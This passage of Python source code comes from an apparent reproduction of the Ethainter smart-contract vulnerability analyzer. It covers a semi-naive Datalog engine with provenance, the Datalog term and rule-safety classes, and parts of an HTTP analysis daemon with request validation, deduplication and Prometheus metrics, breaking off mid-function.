                stats.retracted_facts += len(net_removed)

    # ------------------------------------------------------- legacy executor

    def _evaluate_stratum(
        self,
        database: Database,
        rules: List[Rule],
        max_iterations: int,
        deadline=None,
    ) -> None:
        stats = self.stats
        heads = {rule.head.relation for rule in rules}

        # Naive first round to seed deltas, then semi-naive iteration.
        delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
        for rule in rules:
            results = self._derive(database, rule, None, {})
            derived = 0
            for fact, support in results:
                if database.add(rule.head.relation, fact):
                    delta[rule.head.relation].add(fact)
                    derived += 1
                    self._record(rule, fact, support)
            stats.count_rule(repr(rule), len(results), derived)

        iterations = 0
        while any(delta.values()):
            iterations += 1
            if iterations > max_iterations:
                raise RuntimeError("datalog evaluation did not converge")
            if deadline is not None:
                deadline.check()
            stats.iterations += 1
            new_delta: Dict[str, Set[Tuple]] = {rel: set() for rel in heads}
            for rule in rules:
                rule_key = None
                recursive_positions = [
                    position
                    for position, item in enumerate(rule.body)
                    if isinstance(item, Literal)
                    and not item.negated
                    and item.atom.relation in heads
                    and delta.get(item.atom.relation)
                ]
                for delta_position in recursive_positions:
                    results = self._derive(database, rule, delta_position, delta)
                    derived = 0
                    for fact, support in results:
                        if database.add(rule.head.relation, fact):
                            new_delta[rule.head.relation].add(fact)
                            derived += 1
                            self._record(rule, fact, support)
                    if results:
                        if rule_key is None:
                            rule_key = repr(rule)
                        stats.count_rule(rule_key, len(results), derived)
            delta = new_delta
        stats.stratum_iterations.append(iterations)

    def _derive(
        self,
        database: Database,
        rule: Rule,
        delta_position: Optional[int],
        delta: Dict[str, Set[Tuple]],
    ):
        """Yield (head fact, supporting body facts) pairs from ``rule``.

        When ``delta_position`` is given, that body literal iterates only the
        delta facts (semi-naive restriction).  Support lists are collected
        only when provenance tracking is on (empty otherwise).
        """
        results: List[Tuple[Tuple, List[Tuple[str, Tuple]]]] = []
        tracking = self.track_provenance

        def join(
            position: int, binding: Binding, support: List[Tuple[str, Tuple]]
        ) -> None:
            if position == len(rule.body):
                results.append((substitute(rule.head, binding), support))
                return
            item = rule.body[position]
            if isinstance(item, Filter):
                values = [
                    binding[arg] if isinstance(arg, Variable) else arg
                    for arg in item.args
                ]
                if item.predicate(*values):
                    join(position + 1, binding, support)
                return
            atom, negated = item.atom, item.negated
            if negated:
                probe = []
                for arg in atom.args:
                    if isinstance(arg, Variable):
                        if arg.is_wildcard or arg not in binding:
                            raise PlanningError(
                                "unbound or wildcard variable %r in negated "
                                "literal %r of rule %r" % (arg, item, rule)
                            )
                        probe.append(binding[arg])
                    else:
                        probe.append(arg)
                if not database.contains(atom.relation, tuple(probe)):
                    join(position + 1, binding, support)
                return
            if position == delta_position:
                candidates: Iterable[Tuple] = delta.get(atom.relation, ())
                for fact in candidates:
                    extended = match(atom.args, fact, binding)
                    if extended is not None:
                        join(
                            position + 1,
                            extended,
                            support + [(atom.relation, fact)] if tracking else support,
                        )
                return
            # Indexed lookup on bound positions.
            bound_positions: List[int] = []
            key_values: List[Any] = []
            for argument_position, arg in enumerate(atom.args):
                if isinstance(arg, Variable):
                    if not arg.is_wildcard and arg in binding:
                        bound_positions.append(argument_position)
                        key_values.append(binding[arg])
                else:
                    bound_positions.append(argument_position)
                    key_values.append(arg)
            for fact in database.lookup(
                atom.relation, tuple(bound_positions), tuple(key_values)
            ):
                extended = match(atom.args, fact, binding)
                if extended is not None:
                    join(
                        position + 1,
                        extended,
                        support + [(atom.relation, fact)] if tracking else support,
                    )

        join(0, {}, [])
        return results

    # ----------------------------------------------------------- provenance

    def _record(
        self, rule: Rule, fact: Tuple, support: List[Tuple[str, Tuple]]
    ) -> None:
        if not self.track_provenance:
            return
        key = (rule.head.relation, fact)
        if key not in self.provenance:
            self.provenance[key] = (rule, support)

    def _record_interned(
        self, database: Database, rule: Rule, fact: Tuple, support: list
    ) -> None:
        """Record a compiled-path derivation: decode the head and supports
        and restore original body order (supports sort by body index)."""
        key = (rule.head.relation, database.decode(fact))
        if key in self.provenance:
            return
        decoded = [
            (relation, database.decode(body_fact))
            for _, relation, body_fact in sorted(support)
        ]
        self.provenance[key] = (rule, decoded)

    def explain(
        self, relation: str, fact: Iterable, max_depth: int = 32
    ) -> Optional[dict]:
        """Derivation tree for ``fact``: ``{"fact", "rule", "premises"}``.

        EDB facts (never derived by a rule) get ``{"rule": None}`` leaves.
        Returns None if the fact has no recorded derivation and therefore
        must be an EDB fact or underivable.
        """
        key = (relation, tuple(fact))
        entry = self.provenance.get(key)
        node = {"fact": "%s%r" % (relation, tuple(fact)), "rule": None, "premises": []}
        if entry is None or max_depth == 0:
            return node
        rule, support = entry
        node["rule"] = repr(rule)
        for premise_relation, premise_fact in support:
            node["premises"].append(
                self.explain(premise_relation, premise_fact, max_depth - 1)
            )
        return node

    def format_explanation(self, relation: str, fact: Iterable) -> str:
        """Human-readable indented derivation tree."""
        lines: List[str] = []

        def walk(node: dict, depth: int) -> None:
            lines.append("  " * depth + node["fact"])
            if node["rule"]:
                lines.append("  " * depth + "  via " + node["rule"])
            for premise in node["premises"]:
                walk(premise, depth + 1)

        tree = self.explain(relation, fact)
        if tree is not None:
            walk(tree, 0)
        return "\n".join(lines)


def run(rules: Sequence[Rule], database: Database) -> Database:
    """Convenience one-shot evaluation."""
    return Engine(rules).evaluate(database)
