"""Datalog terms: variables, atoms, literals, rules.

Constants are arbitrary hashable Python values (strings and ints in
practice); variables are :class:`Variable` instances.  The wildcard variable
``_`` (any Variable named ``"_"``) matches anything and binds nothing,
mirroring the paper's "don't care" ``*`` convention (§4.2).
"""

from __future__ import annotations

from dataclasses import InitVar, dataclass, field
from typing import Any, Callable, Dict, List, Optional, Sequence, Tuple


@dataclass(frozen=True)
class Variable:
    name: str

    @property
    def is_wildcard(self) -> bool:
        return self.name == "_"

    def __repr__(self) -> str:
        return self.name


def var(names: str) -> List[Variable]:
    """Convenience: ``x, y = var("x y")``."""
    return [Variable(name) for name in names.split()]


Term = Any  # Variable or constant


@dataclass(frozen=True)
class Atom:
    """``relation(arg0, arg1, ...)``."""

    relation: str
    args: Tuple[Term, ...]

    def __init__(self, relation: str, *args: Term):
        object.__setattr__(self, "relation", relation)
        object.__setattr__(self, "args", tuple(args))

    @property
    def arity(self) -> int:
        return len(self.args)

    def variables(self) -> List[Variable]:
        return [a for a in self.args if isinstance(a, Variable) and not a.is_wildcard]

    def __repr__(self) -> str:
        return "%s(%s)" % (self.relation, ", ".join(map(repr, self.args)))


@dataclass(frozen=True)
class Literal:
    """A body literal: an atom, possibly negated."""

    atom: Atom
    negated: bool = False

    def __repr__(self) -> str:
        return ("!" if self.negated else "") + repr(self.atom)


@dataclass(frozen=True)
class Filter:
    """A Python predicate over bound variables, e.g. arithmetic guards.

    ``predicate`` receives the values of ``args`` (constants pass through)
    and returns truthiness.  Filters must appear after the literals that bind
    their variables.
    """

    predicate: Callable[..., bool]
    args: Tuple[Term, ...]
    name: str = "<filter>"

    def __init__(self, predicate: Callable[..., bool], *args: Term, name: str = "<filter>"):
        object.__setattr__(self, "predicate", predicate)
        object.__setattr__(self, "args", tuple(args))
        object.__setattr__(self, "name", name)

    def __repr__(self) -> str:
        return "%s(%s)" % (self.name, ", ".join(map(repr, self.args)))


BodyItem = Any  # Literal or Filter


@dataclass
class Rule:
    """``head :- body.``  An empty body makes the rule a fact template.

    Safety (range restriction + negation safety) is checked at
    construction; the linter parses with ``check=False`` so it can *report*
    violations with source positions instead of dying on the first one.
    ``line`` carries the 1-based source line for rules that came from
    parsed text (0 for programmatically built rules); it is excluded from
    equality so parsed rules compare by content.
    """

    head: Atom
    body: List[BodyItem] = field(default_factory=list)
    line: int = field(default=0, compare=False)
    check: InitVar[bool] = True

    def __post_init__(self, check: bool = True) -> None:
        if check:
            self._check_safety()

    def safety_violations(self) -> List[str]:
        """Range-restriction / negation-safety violations, as messages."""
        violations: List[str] = []
        positive: set = set()
        for item in self.body:
            if isinstance(item, Literal) and not item.negated:
                positive.update(item.atom.variables())
        for head_var in self.head.variables():
            if head_var not in positive and self.body:
                violations.append(
                    "head variable %r not bound positively in %r" % (head_var, self)
                )
        for item in self.body:
            if isinstance(item, Literal) and item.negated:
                for negated_arg in item.atom.args:
                    if not isinstance(negated_arg, Variable):
                        continue
                    if negated_arg.is_wildcard:
                        # A wildcard under negation is ambiguous ("no fact
                        # with any value here"?) and unexecutable by the
                        # membership-probe semantics — reject it outright.
                        violations.append(
                            "wildcard in negated literal %r of %r"
                            % (item, self)
                        )
                    elif negated_arg not in positive:
                        violations.append(
                            "negated variable %r not bound in %r"
                            % (negated_arg, self)
                        )
        return violations

    def _check_safety(self) -> None:
        """Every head/negated/filter variable must occur in a positive literal."""
        violations = self.safety_violations()
        if violations:
            raise ValueError("unsafe rule: %s" % violations[0])

    def __repr__(self) -> str:
        if not self.body:
            return "%r." % self.head
        return "%r :- %s." % (self.head, ", ".join(map(repr, self.body)))


Binding = Dict[Variable, Any]


def match(atom_args: Sequence[Term], fact: Tuple, binding: Binding) -> Optional[Binding]:
    """Try to extend ``binding`` so that ``atom_args`` matches ``fact``."""
    if len(atom_args) != len(fact):
        return None
    extended = binding
    copied = False
    for pattern, value in zip(atom_args, fact):
        if isinstance(pattern, Variable):
            if pattern.is_wildcard:
                continue
            bound = extended.get(pattern, _MISSING)
            if bound is _MISSING:
                if not copied:
                    extended = dict(extended)
                    copied = True
                extended[pattern] = value
            elif bound != value:
                return None
        elif pattern != value:
            return None
    return extended


class _Missing:
    __slots__ = ()


_MISSING = _Missing()


def substitute(atom: Atom, binding: Binding) -> Tuple:
    """Instantiate an atom's arguments under a (complete) binding."""
    out = []
    for arg in atom.args:
        if isinstance(arg, Variable):
            if arg.is_wildcard:
                raise ValueError("wildcard in rule head: %r" % (atom,))
            out.append(binding[arg])
        else:
            out.append(arg)
    return tuple(out)
