"""Reproduction of "Ethainter: A Smart Contract Security Analyzer for
Composite Vulnerabilities" (Brent, Grech, Lagouvardos, Scholz, Smaragdakis;
PLDI 2020).

Top-level convenience re-exports; see DESIGN.md for the system inventory.

Quickstart::

    from repro import compile_source, analyze_bytecode

    contract = compile_source(source_text)
    result = analyze_bytecode(contract.runtime)
    for warning in result.warnings:
        print(warning.kind, warning.detail)
"""

from repro.core import (
    AnalysisConfig,
    AnalysisResult,
    EthainterAnalysis,
    Warning,
    analyze_bytecode,
)
from repro.minisol import compile_source

__version__ = "1.0.0"

__all__ = [
    "analyze_bytecode",
    "compile_source",
    "EthainterAnalysis",
    "AnalysisConfig",
    "AnalysisResult",
    "Warning",
    "__version__",
]
