"""Reproduction of "Ethainter: A Smart Contract Security Analyzer for
Composite Vulnerabilities" (Brent, Grech, Lagouvardos, Scholz, Smaragdakis;
PLDI 2020).

:mod:`repro.api` is the supported public surface; see DESIGN.md for the
system inventory.

Quickstart::

    from repro import api, compile_source

    contract = compile_source(source_text)
    result = api.analyze(contract.runtime)
    for warning in result.warnings:
        print(warning.kind, warning.detail)

    summary = api.sweep(bytecodes, jobs=8, journal="sweep.jsonl")
"""

from repro import api
from repro.core import (
    AnalysisConfig,
    AnalysisResult,
    EthainterAnalysis,
    Warning,
    analyze_bytecode,
)
from repro.minisol import compile_source

__version__ = "1.1.0"

__all__ = [
    "api",
    "analyze_bytecode",
    "compile_source",
    "EthainterAnalysis",
    "AnalysisConfig",
    "AnalysisResult",
    "Warning",
    "__version__",
]
