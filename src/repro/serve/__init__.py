"""Analysis-as-a-service: the long-lived HTTP daemon behind ``repro serve``.

See :mod:`repro.serve.app` for the endpoint surface,
:mod:`repro.serve.backend` for the admission → dedup → warm-pool funnel,
:mod:`repro.serve.codecs` for the request/report codecs, and
:mod:`repro.serve.metrics` for the Prometheus text encoder.
"""

from repro.serve.app import AnalysisServer, ServeOptions, serve_forever
from repro.serve.backend import BackendStats, QueueFull, ServingBackend

__all__ = [
    "AnalysisServer",
    "BackendStats",
    "QueueFull",
    "ServeOptions",
    "ServingBackend",
    "serve_forever",
]
