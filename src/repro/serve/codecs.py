"""Request/response codecs for the serving daemon.

The HTTP surface speaks the same configuration language as every other
entry point: a JSON request body is folded into the public
:class:`repro.api.AnalyzeRequest` (unknown fields rejected, spellings
identical to the CLI flags), and a completed :class:`BatchEntry` row is
rendered through :class:`repro.core.report.ContractReport` — the *same*
builder ``repro analyze --json`` uses, so an ``/analyze`` response body
is the CLI report byte for byte.
"""

from __future__ import annotations

import dataclasses
import json
from typing import Dict, List, Optional, Tuple

from repro.api import AnalyzeRequest
from repro.core.batch import BatchEntry
from repro.core.report import ContractReport

# JSON body fields accepted by /analyze (and per-contract in /batch),
# mapped onto AnalyzeRequest fields.  "bytecode" is hex text (an optional
# "0x" prefix is tolerated, as the CLI tolerates it in --hex files).
_REQUEST_FIELDS = frozenset(
    field.name for field in dataclasses.fields(AnalyzeRequest)
)


class BadRequest(ValueError):
    """A malformed request body (HTTP 400)."""


def decode_request(
    payload: Dict, defaults: AnalyzeRequest
) -> AnalyzeRequest:
    """Fold one JSON object into an :class:`AnalyzeRequest`.

    ``defaults`` carries the daemon's base configuration (the ``repro
    serve`` CLI flags); request fields override it.  Unknown fields are
    rejected loudly — a typo like ``"egnine"`` must not silently analyze
    under the wrong engine.
    """
    if not isinstance(payload, dict):
        raise BadRequest("request body must be a JSON object")
    unknown = sorted(set(payload) - _REQUEST_FIELDS)
    if unknown:
        raise BadRequest(
            "unknown request field(s): %s (accepted: %s)"
            % (", ".join(unknown), ", ".join(sorted(_REQUEST_FIELDS)))
        )
    overrides = dict(payload)
    if "bundle" in overrides and overrides["bundle"] is not None:
        from repro.core.linkage import bundle_from_specs

        try:
            # allow_files stays False: an HTTP request must not be able to
            # read files off the server's disk.
            overrides["bundle"] = bundle_from_specs(
                overrides["bundle"], allow_files=False
            )
        except ValueError as error:
            raise BadRequest("bad bundle: %s" % error) from None
    if "bytecode" in overrides:
        text = overrides["bytecode"]
        if not isinstance(text, str):
            raise BadRequest("bytecode must be a hex string")
        if text.startswith("0x"):
            text = text[2:]
        try:
            overrides["bytecode"] = bytes.fromhex(text.strip())
        except ValueError:
            raise BadRequest("bytecode is not valid hex") from None
    if "kinds" in overrides and overrides["kinds"] is not None:
        kinds = overrides["kinds"]
        if isinstance(kinds, str):
            kinds = [k.strip() for k in kinds.split(",") if k.strip()]
        if not isinstance(kinds, (list, tuple)) or not all(
            isinstance(k, str) for k in kinds
        ):
            raise BadRequest("kinds must be a list of kind names")
        overrides["kinds"] = tuple(kinds)
    try:
        return dataclasses.replace(defaults, **overrides)
    except TypeError as error:
        raise BadRequest(str(error)) from None


def parse_body(body: bytes) -> Dict:
    """The request body as a JSON object, or :class:`BadRequest`."""
    try:
        payload = json.loads(body.decode("utf-8") or "{}")
    except (UnicodeDecodeError, json.JSONDecodeError) as error:
        raise BadRequest("request body is not valid JSON: %s" % error) from None
    if not isinstance(payload, dict):
        raise BadRequest("request body must be a JSON object")
    return payload


def batch_requests(
    payload: Dict, defaults: AnalyzeRequest
) -> List[AnalyzeRequest]:
    """Decode a /batch body: ``{"contracts": [...], <shared overrides>}``.

    Top-level fields (minus ``contracts``) form the batch's shared
    defaults; each element of ``contracts`` overrides them per contract.
    """
    if "contracts" not in payload:
        raise BadRequest('batch body needs a "contracts" list')
    contracts = payload["contracts"]
    if not isinstance(contracts, list) or not contracts:
        raise BadRequest('"contracts" must be a non-empty list')
    shared = {k: v for k, v in payload.items() if k != "contracts"}
    base = decode_request(shared, defaults) if shared else defaults
    return [decode_request(entry, base) for entry in contracts]


def report_text(
    entry: BatchEntry, name: str, bytecode_size: int
) -> str:
    """The schema-v2 report for one completed entry — exactly what
    ``repro analyze --json`` prints (trailing newline included)."""
    return (
        ContractReport.from_entry(
            entry, name=name, bytecode_size=bytecode_size
        ).to_json()
        + "\n"
    )


def error_body(message: str, kind: str = "error") -> bytes:
    """A one-field JSON error payload for non-200 responses."""
    return (json.dumps({kind: message}) + "\n").encode("utf-8")
