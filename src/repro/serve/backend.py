"""The serving backend: admission → dedup → warm pool.

Every request flows through one funnel, keyed by the same
``sha256(bytecode) + config fingerprint`` identity the sweep journal,
:class:`~repro.core.orchestrator.ResultCache`, and
:class:`~repro.core.pipeline.ArtifactCache` use:

1. **completed-work reuse** — an identity already served resolves from an
   in-memory LRU of entry rows (``report_cache_hits``), or from the
   optional disk :class:`ResultCache` (``result_cache_hits``) — the very
   directory a ``repro sweep --result-cache`` run populates, so a sweep
   warms the daemon and vice versa;
2. **in-flight coalescing** — a duplicate of a request currently being
   analyzed shares its future instead of queueing twice
   (``coalesced``), the §6.1 duplicate-heavy regime where throughput
   must scale with *unique* bytecode;
3. **bounded admission** — at most ``max_queue`` submissions may be
   open; past that, :class:`QueueFull` (the daemon's HTTP 429);
4. **warm pool** — misses dispatch to the
   :class:`~repro.core.orchestrator.PersistentPool`, whose worker
   processes hold :class:`~repro.core.bytecode_datalog.WarmEngineCache`
   and :class:`~repro.core.pipeline.ArtifactCache` state across requests.

Thread-safe by a single lock: the asyncio handler threads submit, the
pool's supervision thread resolves.
"""

from __future__ import annotations

import threading
from collections import OrderedDict
from concurrent.futures import Future
from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.core.analysis import AnalysisConfig
from repro.core.batch import BatchEntry
from repro.core.orchestrator import (
    PersistentPool,
    ResultCache,
    _entry_from_dict,
    _entry_to_dict,
    _is_harness_fault_row,
)

__all__ = ["QueueFull", "ServingBackend", "BackendStats"]


class QueueFull(Exception):
    """Admission rejected: too many open requests (HTTP 429)."""


@dataclass
class BackendStats:
    """Serving-funnel counters, rendered into ``/metrics``."""

    requests: int = 0
    analyzed: int = 0  # requests that actually dispatched to the pool
    coalesced: int = 0  # shared an in-flight duplicate's future
    report_cache_hits: int = 0  # resolved from the in-memory LRU
    result_cache_hits: int = 0  # resolved from the cross-run disk cache
    rejections: int = 0  # QueueFull (HTTP 429)

    def as_dict(self) -> Dict[str, int]:
        return dict(vars(self))


class ServingBackend:
    """Admission, dedup, and completed-work reuse over a warm pool."""

    def __init__(
        self,
        pool: PersistentPool,
        max_queue: int = 64,
        dedup: bool = True,
        result_cache: Optional[ResultCache] = None,
        memory_entries: int = 1024,
    ):
        self.pool = pool
        self.max_queue = max(1, max_queue)
        self.dedup = dedup
        self.result_cache = result_cache
        self.memory_entries = max(0, memory_entries)
        self.stats = BackendStats()
        self._lock = threading.Lock()
        self._inflight: Dict[str, "Future[Tuple[BatchEntry, ...]]"] = {}
        self._memory: "OrderedDict[str, List[Dict]]" = OrderedDict()

    # -- submission (any thread)

    def submit(
        self, runtime: bytes, config: AnalysisConfig, identity: str
    ) -> "Future[Tuple[BatchEntry, ...]]":
        """Resolve one request, reusing completed or in-flight work.

        Returns a future of the entry row (1-tuple).  Raises
        :class:`QueueFull` when admission is at capacity — cached and
        coalesced resolutions are *never* rejected: a duplicate costs no
        pool capacity, so it is always admitted.
        """
        with self._lock:
            self.stats.requests += 1
            if self.dedup:
                cached = self._lookup_locked(identity)
                if cached is not None:
                    future: "Future[Tuple[BatchEntry, ...]]" = Future()
                    future.set_result(cached)
                    return future
                inflight = self._inflight.get(identity)
                if inflight is not None:
                    self.stats.coalesced += 1
                    return inflight
            if self.pool.outstanding >= self.max_queue:
                self.stats.rejections += 1
                raise QueueFull(
                    "analysis queue is full (%d open request(s), max %d)"
                    % (self.pool.outstanding, self.max_queue)
                )
            self.stats.analyzed += 1
            future = self.pool.submit(runtime, config)
            if self.dedup:
                self._inflight[identity] = future
                future.add_done_callback(
                    lambda f, key=identity: self._resolved(key, f)
                )
            return future

    @property
    def open_requests(self) -> int:
        return self.pool.outstanding

    @property
    def inflight_identities(self) -> int:
        with self._lock:
            return len(self._inflight)

    # -- internals

    def _lookup_locked(
        self, identity: str
    ) -> Optional[Tuple[BatchEntry, ...]]:
        entries = self._memory.get(identity)
        if entries is not None:
            self._memory.move_to_end(identity)
            self.stats.report_cache_hits += 1
            return tuple(_entry_from_dict(e) for e in entries)
        if self.result_cache is not None:
            stored = self.result_cache.get(identity)
            if stored is not None and len(stored) == 1:
                self.stats.result_cache_hits += 1
                self._remember_locked(identity, stored)
                return tuple(_entry_from_dict(e) for e in stored)
        return None

    def _remember_locked(self, identity: str, entries: List[Dict]) -> None:
        if self.memory_entries <= 0:
            return
        self._memory[identity] = entries
        self._memory.move_to_end(identity)
        while len(self._memory) > self.memory_entries:
            self._memory.popitem(last=False)

    def _resolved(
        self, identity: str, future: "Future[Tuple[BatchEntry, ...]]"
    ) -> None:
        """Pool-thread callback: publish a completed row for reuse."""
        with self._lock:
            self._inflight.pop(identity, None)
            if future.cancelled() or future.exception() is not None:
                return
            row = future.result()
            if _is_harness_fault_row(row):
                # Crash/watchdog/exhausted-retry outcomes may be
                # environmental: never cached, the next duplicate retries.
                return
            entries = [_entry_to_dict(entry) for entry in row]
            self._remember_locked(identity, entries)
            if self.result_cache is not None:
                try:
                    self.result_cache.put(identity, entries)
                except OSError:  # pragma: no cover - disk full/unwritable
                    pass
