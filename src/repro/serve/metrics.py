"""Prometheus text exposition for the serving daemon.

A tiny stdlib encoder for the text format (version 0.0.4): each metric
renders ``# HELP`` / ``# TYPE`` header lines followed by one sample per
label set.  Only the two sample shapes the daemon needs are supported —
counters and gauges, with optional labels — which keeps the encoder a
page long instead of a dependency.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Tuple, Union

__all__ = ["Metric", "encode_metrics"]

Number = Union[int, float]


@dataclass
class Metric:
    """One metric family: name, help text, type, and its samples."""

    name: str
    help: str
    type: str  # "counter" | "gauge"
    samples: List[Tuple[Dict[str, str], Number]] = field(default_factory=list)

    def add(self, value: Number, **labels: str) -> "Metric":
        self.samples.append((labels, value))
        return self


def _escape_help(text: str) -> str:
    return text.replace("\\", "\\\\").replace("\n", "\\n")


def _escape_label(value: str) -> str:
    return (
        value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n")
    )


def _format_value(value: Number) -> str:
    if isinstance(value, bool):  # bool is an int; be explicit
        return "1" if value else "0"
    if isinstance(value, int):
        return str(value)
    return repr(float(value))


def encode_metrics(metrics: List[Metric]) -> str:
    """Render metric families to the Prometheus text format."""
    lines: List[str] = []
    for metric in metrics:
        lines.append("# HELP %s %s" % (metric.name, _escape_help(metric.help)))
        lines.append("# TYPE %s %s" % (metric.name, metric.type))
        for labels, value in metric.samples:
            if labels:
                label_text = "{%s}" % ",".join(
                    '%s="%s"' % (key, _escape_label(str(val)))
                    for key, val in sorted(labels.items())
                )
            else:
                label_text = ""
            lines.append(
                "%s%s %s" % (metric.name, label_text, _format_value(value))
            )
    return "\n".join(lines) + "\n"
