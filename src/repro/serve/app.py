"""The analysis-as-a-service daemon behind ``repro serve``.

A hand-rolled HTTP/1.1 server on :func:`asyncio.start_server` — no web
framework, no new dependencies — in front of the
:class:`~repro.serve.backend.ServingBackend` funnel and its persistent
warm :class:`~repro.core.orchestrator.PersistentPool`:

* ``POST /analyze`` — one contract (hex ``bytecode`` or MiniSol
  ``source``) → the schema-v2 JSON report, byte-for-byte what ``repro
  analyze --json`` prints;
* ``POST /batch`` — many contracts → NDJSON, one line per contract
  *streamed in completion order* (duplicates coalesce in flight);
* ``GET /health`` — liveness + pool mode;
* ``GET /metrics`` — Prometheus text: serving funnel counters plus the
  orchestrator heartbeat/retry/crash/dedup counters.

Every response closes its connection (``Connection: close``): the
clients this serves are sweep drivers and load balancers, and one
request per connection keeps the parser trivial and the drain story
exact.  On SIGTERM/SIGINT the listener closes, in-flight requests
finish and flush, then the worker pool shuts down — the §6 sweep's
"an operator restart costs zero contracts" property, ported to serving.
"""

from __future__ import annotations

import asyncio
import dataclasses
import json
import signal
import time
from typing import Dict, Optional, Tuple

from repro.api import AnalyzeRequest
from repro.core.orchestrator import (
    HARNESS_FAULT_KINDS,
    OrchestratorOptions,
    PersistentPool,
    ResultCache,
)
from repro.core.report import ContractReport
from repro.serve.backend import QueueFull, ServingBackend
from repro.serve.codecs import (
    BadRequest,
    batch_requests,
    decode_request,
    error_body,
    parse_body,
    report_text,
)
from repro.serve.metrics import Metric, encode_metrics

__all__ = ["ServeOptions", "AnalysisServer", "serve_forever"]

_STATUS_TEXT = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    413: "Payload Too Large",
    429: "Too Many Requests",
    500: "Internal Server Error",
}

_MAX_BODY_BYTES = 64 * 1024 * 1024  # a whole-chain batch, not a bomb


@dataclasses.dataclass
class ServeOptions:
    """Daemon configuration (the ``repro serve`` CLI flags)."""

    host: str = "127.0.0.1"
    port: int = 8091
    jobs: int = 1  # worker processes; 0 = analyze inline on the pool thread
    max_queue: int = 64  # open-request admission bound (429 past it)
    dedup: bool = True  # identity coalescing + completed-work reuse
    result_cache: Optional[str] = None  # disk ResultCache dir (sweep-shared)
    memory_entries: int = 1024  # in-memory completed-row LRU size
    defaults: AnalyzeRequest = dataclasses.field(default_factory=AnalyzeRequest)
    orchestrator: Optional[OrchestratorOptions] = None


class AnalysisServer:
    """One daemon instance: listener, funnel, pool, and counters."""

    def __init__(self, options: Optional[ServeOptions] = None):
        self.options = options or ServeOptions()
        self.pool = PersistentPool(
            jobs=self.options.jobs,
            options=self.options.orchestrator,
            config=self.options.defaults.config(),
        )
        result_cache = (
            ResultCache(self.options.result_cache)
            if self.options.result_cache
            else None
        )
        self.backend = ServingBackend(
            self.pool,
            max_queue=self.options.max_queue,
            dedup=self.options.dedup,
            result_cache=result_cache,
            memory_entries=self.options.memory_entries,
        )
        self._server: Optional[asyncio.base_events.Server] = None
        self._loop: Optional[asyncio.AbstractEventLoop] = None
        self._shutdown = asyncio.Event()
        self._active_connections = 0
        self._started_at = time.monotonic()
        # (endpoint, status) -> count, for repro_serve_requests_total.
        self._request_counts: Dict[Tuple[str, int], int] = {}

    # -- lifecycle

    async def start(self) -> None:
        self._loop = asyncio.get_running_loop()
        self._started_at = time.monotonic()
        self._server = await asyncio.start_server(
            self._handle_client, self.options.host, self.options.port
        )

    @property
    def address(self) -> Tuple[str, int]:
        """The bound (host, port) — port resolved when ``port=0``."""
        assert self._server is not None, "server not started"
        sock = self._server.sockets[0]
        name = sock.getsockname()
        return name[0], name[1]

    def request_shutdown(self) -> None:
        """Begin a graceful drain; safe to call from any thread."""
        if self._loop is None:
            return
        self._loop.call_soon_threadsafe(self._shutdown.set)

    def install_signal_handlers(self) -> None:
        """SIGTERM/SIGINT → graceful drain (main-thread loops only)."""
        assert self._loop is not None
        for signum in (signal.SIGTERM, signal.SIGINT):
            try:
                self._loop.add_signal_handler(signum, self._shutdown.set)
            except (NotImplementedError, RuntimeError, ValueError):
                return  # non-main thread or unsupported platform

    async def run_until_shutdown(self) -> None:
        """Serve until :meth:`request_shutdown` (or a signal), then drain."""
        assert self._server is not None, "call start() first"
        await self._shutdown.wait()
        await self.drain()

    async def drain(self) -> None:
        """Graceful stop: close the listener, let every admitted request
        finish and flush its response, then shut the pool down."""
        if self._server is not None:
            self._server.close()
            await self._server.wait_closed()
            self._server = None
        while self._active_connections or self.backend.open_requests:
            await asyncio.sleep(0.02)
        loop = asyncio.get_running_loop()
        # pool.close joins the supervision thread; keep the loop alive.
        await loop.run_in_executor(None, self.pool.close)

    # -- plumbing

    def _count(self, endpoint: str, status: int) -> None:
        key = (endpoint, status)
        self._request_counts[key] = self._request_counts.get(key, 0) + 1

    async def _respond(
        self,
        writer: asyncio.StreamWriter,
        status: int,
        body: bytes,
        content_type: str = "application/json",
    ) -> None:
        head = (
            "HTTP/1.1 %d %s\r\n"
            "Content-Type: %s\r\n"
            "Content-Length: %d\r\n"
            "Connection: close\r\n"
            "\r\n" % (status, _STATUS_TEXT[status], content_type, len(body))
        )
        writer.write(head.encode("ascii") + body)
        await writer.drain()

    async def _handle_client(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        self._active_connections += 1
        try:
            await self._handle_request(reader, writer)
        except (ConnectionError, asyncio.IncompleteReadError):
            pass  # client went away mid-exchange
        except Exception as error:  # never let one request kill the daemon
            try:
                await self._respond(
                    writer, 500, error_body("internal error: %s" % error)
                )
                self._count("internal", 500)
            except ConnectionError:
                pass
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except (ConnectionError, OSError):
                pass
            self._active_connections -= 1

    async def _handle_request(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        request_line = await reader.readline()
        if not request_line:
            return
        try:
            method, target, _version = (
                request_line.decode("ascii").strip().split(" ", 2)
            )
        except (UnicodeDecodeError, ValueError):
            await self._respond(writer, 400, error_body("malformed request line"))
            return
        headers: Dict[str, str] = {}
        while True:
            line = await reader.readline()
            if line in (b"\r\n", b"\n", b""):
                break
            name, _sep, value = line.decode("latin-1").partition(":")
            headers[name.strip().lower()] = value.strip()
        try:
            content_length = int(headers.get("content-length", "0"))
        except ValueError:
            await self._respond(writer, 400, error_body("bad Content-Length"))
            return
        if content_length > _MAX_BODY_BYTES:
            await self._respond(
                writer, 413, error_body("request body too large")
            )
            return
        body = (
            await reader.readexactly(content_length)
            if content_length
            else b""
        )
        path = target.split("?", 1)[0]
        if path == "/health" and method == "GET":
            await self._handle_health(writer)
        elif path == "/metrics" and method == "GET":
            await self._handle_metrics(writer)
        elif path == "/analyze" and method == "POST":
            await self._handle_analyze(writer, body)
        elif path == "/batch" and method == "POST":
            await self._handle_batch(writer, body)
        elif path in ("/health", "/metrics", "/analyze", "/batch"):
            self._count(path.strip("/"), 405)
            await self._respond(writer, 405, error_body("method not allowed"))
        else:
            self._count("unknown", 404)
            await self._respond(writer, 404, error_body("no such endpoint"))

    # -- endpoints

    async def _handle_health(self, writer: asyncio.StreamWriter) -> None:
        payload = {
            "status": "ok",
